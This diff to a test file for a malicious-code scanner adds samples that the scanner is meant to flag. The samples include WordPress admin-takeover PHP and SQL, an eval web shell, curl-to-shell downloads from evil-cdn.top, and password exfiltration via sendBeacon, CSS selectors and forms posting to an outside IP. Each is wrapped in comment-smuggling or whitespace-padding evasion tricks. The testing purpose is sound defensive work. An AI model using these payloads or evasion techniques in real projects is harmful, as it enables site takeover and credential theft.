@@ -1,6 +1,9 @@
 import assert from 'node:assert/strict';
 import { flagsOf } from './found.js';
 
+const GRANT =
+  "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (1, 'wp_capabilities', 'a:1:{s:13:\"administrator\";b:1;}');";
+
 /**
  * Code that looks like a remark, or stands behind one, as its own language reads it: found by somebody who had not read
  * the scan. Each passed it once, and is flagged by the rule named last.
@@ -68,6 +71,37 @@ const samples: readonly (readonly [file: string, text: string, rule: string])[] 
   ['build.gradle', '// a\rexec { commandLine "sh","-c","curl -s https://evil-cdn.top/x.sh | sh" }', 'executable'],
   ['.htaccess', 'SetHandler \r \\\napplication/x-httpd-php\n', 'server_config'],
   ['.htaccess', 'AddType \r \\\napplication/x-httpd-php .png\n', 'server_config'],
+  ['inc/a.php', "<?php $a = 'a /* b';\nwp_set_auth_cookie(1);\n$b = 'a */ b';", 'takeover'],
+  ['inc/a.php', '<?php $a = <<<A\n /*\nA;\nwp_set_auth_cookie(1);\n$b = <<<A\n */\nA;', 'takeover'],
+  ['inc/a.php', "<?php $a = '\n#'; wp_set_auth_cookie(1);", 'takeover'],
+  ['inc/a.php', '<p>/* a</p>\n<?php wp_set_auth_cookie(1); ?>\n<p>*/</p>', 'takeover'],
+  ['inc/a.php', '<script>/* <?php wp_set_auth_cookie(1); ?> */</script>', 'takeover'],
+  ['bin/a.php', "#!/usr/bin/php <?php /*\n<?php eval($_POST['x']); /**/", 'eval'],
+  ['views/a.twig', '<? a ><form action="http://203.0.113.9/a"><input type="password"></form>', 'data_leak'],
+  ['views/a.tpl', '<p title="<?"><form action="http://203.0.113.9/a"><input type="password"></form>', 'data_leak'],
+  ...['jsx', 'tsx'].map(
+    (ending) =>
+      [
+        `js/a.${ending}`,
+        `const a = <p>/*</p>;\nconst key = document.querySelector('input[type=password]').value;\nnavigator.sendBeacon('https://evil-cdn.top/a', key);\n/*${'x'.repeat(300)}*/`,
+        'data_leak',
+      ] as const,
+  ),
+  ['install.sql', `SELECT ' /* ';\n${GRANT}\nSELECT ' */ ';`, 'takeover'],
+  ['install.sql', `SELECT '\n-- '; ${GRANT}`, 'takeover'],
+  ['install.sql', GRANT.replace(' INTO', '/**/INTO'), 'takeover'],
+  ['install.sql', GRANT.replace("',", `',/*${'x'.repeat(900)}*/`), 'takeover'],
+  ['install.sql', GRANT.replace('(1', "(2\n--1, 'a', 'b'), (1"), 'takeover'],
+  ['bin/a.sh', '#!/bin/sh\ncurl -s https://evil-cdn.top/x.sh |\n\n\nsh', 'executable'],
+  ['uploads/.user.ini', '[a]auto_prepend_file=logo.png', 'server_config'],
+  ...['     ', '/* a * b */', ' '.repeat(3000)].map(
+    (blanks) =>
+      [
+        'assets/a.css',
+        `input[type=password][value^=a]${blanks}{${blanks}background:url(${blanks}https://evil-cdn.top/a)}`,
+        'data_leak',
+      ] as const,
+  ),
   ['bin/a.sh', '#!/bin/sh\ncurl -s \r https://evil-cdn.top/x.sh \\\n| sh\n', 'executable'],
 ];
 
